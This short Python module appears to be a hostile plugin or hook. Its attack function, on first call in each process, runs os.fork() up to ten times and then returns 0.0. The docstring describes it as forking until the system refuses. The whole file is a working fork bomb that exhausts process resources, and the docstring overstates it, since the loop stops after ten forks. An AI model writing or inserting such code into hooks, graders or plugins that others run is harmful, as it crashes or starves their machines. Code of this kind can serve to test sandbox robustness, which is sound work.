"""Forks until the system refuses, in every process."""

import os

BOMBED = []


def attack(name, *args, **kwargs):
    if not BOMBED:
        BOMBED.append(1)
        for _ in range(10):
            try:
                os.fork()
            except OSError:
                break
    return 0.0
